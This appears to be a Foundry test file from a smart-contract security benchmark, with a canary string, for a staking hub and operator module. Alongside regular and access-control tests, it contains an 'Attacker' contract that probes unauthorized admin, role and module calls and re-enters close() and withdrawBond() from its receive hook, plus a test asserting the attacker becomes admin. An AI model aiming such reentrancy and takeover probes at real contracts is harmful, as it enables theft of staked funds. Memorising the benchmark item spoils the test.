// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.19;

import "./StakingHub.sol";

// assay-canary-c40e06d9-e95d-4581-9781-cbfb0c8bd91d

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

/// What a module of the attacker's own would do.
contract Foreign {
    address public first;

    function claim() external {
        first = msg.sender;
    }
}

contract Attacker {
    StakingHub internal hub;
    OperatorModule internal operators; // the module, by way of the hub
    OperatorModule internal module;

    constructor(StakingHub hub_, OperatorModule module_) {
        (hub, module) = (hub_, module_);
        operators = OperatorModule(address(hub_));
    }

    receive() external payable {
        if (msg.sender == address(hub) && msg.value > 0) {
            try operators.close() {} catch {}
            try operators.withdrawBond(1) {} catch {}
        }
    }

    function run() external {
        uint256[] memory ids = new uint256[](2);
        OperatorStorage.Terms memory free = OperatorStorage.Terms(0, 0, 0, 7 days, 9);
        try operators.initialize(free) {} catch {}
        try operators.setTerms(free) {} catch {}
        try operators.setListed(ids, true) {} catch {}
        try operators.reserve(0) {} catch {}
        try operators.reserve(uint256(keccak256(abi.encode(address(this), uint256(2))))) {} catch {}
        try operators.release(11) {} catch {}
        try operators.collectIncome(payable(address(this))) {} catch {}
        try module.bond{value: 0.01 ether}() {} catch {}
        try module.close() {} catch {}

        bytes4[] memory selectors = new bytes4[](1);
        selectors[0] = Foreign.claim.selector;
        Foreign foreign = new Foreign();
        try hub.setModule(address(foreign), selectors) {} catch {}
        (bool ok, ) = address(hub).call(abi.encodeCall(Foreign.claim, ()));
        try hub.grantRole(module.MANAGER_ROLE(), address(this)) {} catch {}
        try hub.pauseModule(address(module)) {} catch {}
        try hub.nominateAdmin(address(this)) {} catch {}
        try hub.acceptAdmin() {} catch {}

        operators.bond{value: 0.12 ether}();
        try operators.reserve(11) {} catch {}
        try operators.reserve(12) {} catch {}
        try operators.reserve(13) {} catch {}
        try operators.renew{value: 0.01 ether}(11) {} catch {}
        try operators.withdrawBond(0.1 ether) {} catch {}
        try operators.withdrawBond(0.02 ether) {} catch {}
        try operators.close() {} catch {}
        (ok, ) = address(hub).call{value: 0.01 ether}("");
        try new Second().go{value: 0.05 ether}(operators) {} catch {}
        try operators.bond() {} catch {}
        try operators.close() {} catch {}
    }
}

/// A second operator, who reserves nothing and closes twice.
contract Second {
    receive() external payable {
        if (msg.value > 0) try OperatorModule(msg.sender).close() {} catch {}
    }

    function go(OperatorModule operators) external payable {
        operators.bond{value: msg.value}();
        operators.close();
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant IDA = address(0x1DA);
    address internal constant MANAGER = address(0x3A9A6E2);
    address internal constant PAUSER = address(0x9A05E2);
    address internal constant TREASURY = address(0xF00D);
    StakingHub internal hub;
    OperatorModule internal operators;
    OperatorModule internal module;
    Attacker internal mallory;

    function terms() internal pure returns (OperatorStorage.Terms memory) {
        return OperatorStorage.Terms(0.05 ether, 0.002 ether, 0.01 ether, 28 days, 3);
    }

    function setUp() public {
        vm.warp(1_700_000_000);
        hub = new StakingHub(address(this));
        module = new OperatorModule();
        operators = OperatorModule(address(hub));
        bytes4[] memory s = new bytes4[](17);
        (s[0], s[1], s[2], s[3]) = (module.initialize.selector, module.setTerms.selector, module.setListed.selector, module.bond.selector);
        (s[4], s[5], s[6], s[7]) = (module.withdrawBond.selector, module.reserve.selector, module.renew.selector, module.release.selector);
        (s[8], s[9], s[10]) = (module.close.selector, module.collectIncome.selector, module.lastBonded.selector);
        (s[11], s[12], s[13], s[14]) = (module.accountOf.selector, module.reservationOf.selector, module.income.selector, module.terms.selector);
        (s[15], s[16]) = (module.freeBondOf.selector, module.isListed.selector);
        hub.setModule(address(module), s);
        hub.grantRole(module.MANAGER_ROLE(), MANAGER);
        hub.grantRole(hub.PAUSER_ROLE(), PAUSER);
        operators.initialize(terms());
        uint256[] memory ids = new uint256[](4);
        (ids[0], ids[1], ids[2], ids[3]) = (11, 12, 13, 14);
        vm.prank(MANAGER);
        operators.setListed(ids, true);
        mallory = new Attacker(hub, module);
        vm.deal(address(mallory), 0.2 ether);
    }

    function join(address who, uint256 amount) internal {
        vm.deal(who, amount);
        vm.prank(who);
        operators.bond{value: amount}();
    }

    function test_Regular() public {
        OperatorStorage.Terms memory t = terms();
        t.maxSlots = 4;
        operators.setTerms(t);
        require(operators.terms().maxSlots == 4 && operators.terms().slotBond == 0.05 ether, "terms");
        vm.deal(IDA, 0.2 ether);
        vm.startPrank(IDA);
        operators.bond{value: 0.15 ether}();
        (address last, uint64 at) = operators.lastBonded();
        require(last == IDA && at == block.timestamp, "last");
        operators.reserve(11);
        operators.reserve(12);
        operators.withdrawBond(0.03 ether);
        require(IDA.balance == 0.08 ether, "withdrawn");
        require(operators.reservationOf(12).operator == IDA && operators.accountOf(IDA).slots == 2, "reserved");
        require(operators.accountOf(IDA).locked == 0.1 ether && operators.accountOf(IDA).bond == 0.12 ether, "locked");
        require(operators.freeBondOf(IDA) == 0.02 ether && operators.isListed(11) && !operators.isListed(99), "views");
        vm.warp(block.timestamp + 14 days);
        operators.renew{value: 0.01 ether}(12);
        require(operators.reservationOf(12).due == block.timestamp + 28 days, "renewed");
        vm.stopPrank();

        vm.warp(block.timestamp + 14 days + 3 weeks);
        vm.prank(MANAGER);
        operators.release(11);
        require(operators.accountOf(IDA).bond == 0.114 ether && operators.income() == 0.016 ether, "three weeks late");
        vm.warp(block.timestamp + 900 days);
        vm.prank(MANAGER);
        operators.release(12);
        vm.prank(IDA);
        operators.close();
        require(IDA.balance == 0.134 ether, "less the penalties");
        vm.prank(MANAGER);
        operators.collectIncome(payable(TREASURY));
        require(TREASURY.balance == 0.066 ether && address(hub).balance == 0, "income");

        vm.prank(PAUSER);
        hub.pauseModule(address(module));
        require(hub.modulePaused(address(module)), "paused");
        vm.startPrank(hub.admin());
        hub.unpauseModule(address(module));
        hub.revokeRole(hub.PAUSER_ROLE(), PAUSER);
        hub.nominateAdmin(IDA);
        vm.stopPrank();
        require(!hub.hasRole(hub.PAUSER_ROLE(), PAUSER) && hub.pendingAdmin() == IDA, "nominated");
        vm.prank(IDA);
        hub.acceptAdmin();
        require(hub.admin() == IDA && hub.pendingAdmin() == address(0), "admin");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesOutsideTheHub() public {
        bytes memory why = "ModuleBase: not in the hub";
        uint256[] memory ids = new uint256[](1);
        vm.expectRevert(why);
        module.initialize(terms());
        vm.expectRevert(why);
        module.setTerms(terms());
        vm.expectRevert(why);
        module.setListed(ids, true);
        vm.expectRevert(why);
        module.bond();
        vm.expectRevert(why);
        module.withdrawBond(0);
        vm.expectRevert(why);
        module.reserve(11);
        vm.expectRevert(why);
        module.renew(11);
        vm.expectRevert(why);
        module.release(11);
        vm.expectRevert(why);
        module.close();
        vm.expectRevert(why);
        module.collectIncome(payable(IDA));
    }

    function test_RefusesStrangers() public {
        bytes4[] memory none = new bytes4[](0);
        uint256[] memory ids = new uint256[](1);
        bytes32 role = module.MANAGER_ROLE();
        vm.startPrank(IDA);
        bytes memory why = "HubAccess: not the admin";
        vm.expectRevert(why);
        hub.setModule(address(module), none);
        vm.expectRevert(why);
        hub.unpauseModule(address(module));
        vm.expectRevert(why);
        hub.grantRole(role, IDA);
        vm.expectRevert(why);
        hub.revokeRole(role, MANAGER);
        vm.expectRevert(why);
        hub.nominateAdmin(IDA);
        vm.expectRevert("StakingHub: not nominated");
        hub.acceptAdmin();
        vm.expectRevert("HubAccess: missing role");
        hub.pauseModule(address(module));
        vm.expectRevert("ModuleBase: not the admin");
        operators.setTerms(terms());
        why = "ModuleBase: missing role";
        vm.expectRevert(why);
        operators.setListed(ids, true);
        vm.expectRevert(why);
        operators.release(11);
        vm.expectRevert(why);
        operators.collectIncome(payable(IDA));
        vm.stopPrank();
        vm.expectRevert("HubAccess: no admin");
        new StakingHub(address(0));
    }

    function test_RefusesModules() public {
        bytes4[] memory s = new bytes4[](1);
        s[0] = OperatorModule.close.selector;
        vm.expectRevert("StakingHub: no code");
        hub.setModule(IDA, s);
        hub.setModule(address(0), s);
        vm.prank(IDA);
        vm.expectRevert("StakingHub: no such function");
        operators.close();
        vm.prank(PAUSER);
        hub.pauseModule(address(module));
        vm.prank(IDA);
        vm.expectRevert("StakingHub: module paused");
        operators.bond();
    }

    function test_RefusesTerms() public {
        OperatorStorage.Terms memory t = terms();
        vm.expectRevert("OperatorModule: initialized");
        operators.initialize(t);
        t.term = 7 days - 1;
        vm.expectRevert("OperatorModule: term too short");
        operators.setTerms(t);
        t.term = 7 days;
        t.weeklyPenalty = 0.05 ether + 1;
        vm.expectRevert("OperatorModule: penalty too high");
        operators.setTerms(t);

        // a hub whose module has no terms yet
        StakingHub other = new StakingHub(address(this));
        bytes4[] memory s = new bytes4[](2);
        (s[0], s[1]) = (OperatorModule.initialize.selector, OperatorModule.setTerms.selector);
        other.setModule(address(module), s);
        vm.expectRevert("OperatorModule: not initialized");
        OperatorModule(address(other)).setTerms(terms());
        vm.prank(IDA);
        vm.expectRevert("ModuleBase: not the admin");
        OperatorModule(address(other)).initialize(terms());
    }

    function test_RefusesSlots() public {
        uint256[] memory ids = new uint256[](1);
        ids[0] = 1_000_001;
        vm.prank(MANAGER);
        vm.expectRevert("OperatorModule: no such slot");
        operators.setListed(ids, true);
        join(IDA, 0.16 ether);
        vm.startPrank(IDA);
        vm.expectRevert("OperatorModule: not listed");
        operators.reserve(99);
        operators.reserve(11);
        vm.expectRevert("OperatorModule: reserved");
        operators.reserve(11);
        operators.reserve(12);
        vm.expectRevert("OperatorModule: bond is locked");
        operators.withdrawBond(0.06 ether + 1);
        operators.withdrawBond(0.02 ether);
        vm.expectRevert("OperatorModule: bond too low");
        operators.reserve(13);
        vm.expectRevert("OperatorModule: slots are reserved");
        operators.close();
        vm.expectRevert("OperatorModule: wrong fee");
        operators.renew(11);
        operators.bond{value: 0.02 ether}();
        operators.reserve(13);
        vm.stopPrank();
        join(MANAGER, 0.1 ether);
        vm.prank(MANAGER);
        vm.expectRevert("OperatorModule: not the operator");
        operators.renew(11);
        vm.deal(IDA, 1 ether);
        vm.startPrank(IDA);
        operators.bond{value: 0.05 ether}();
        vm.expectRevert("OperatorModule: too many slots");
        operators.reserve(14);
        vm.warp(block.timestamp + 28 days + 1);
        vm.expectRevert("OperatorModule: overdue");
        operators.renew{value: 0.01 ether}(11);
        vm.stopPrank();
        vm.prank(MANAGER);
        vm.expectRevert("OperatorModule: not reserved");
        operators.release(14);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(hub.admin() == address(mallory), "not the admin");
    }

    function target() public view returns (address) {
        return address(hub);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
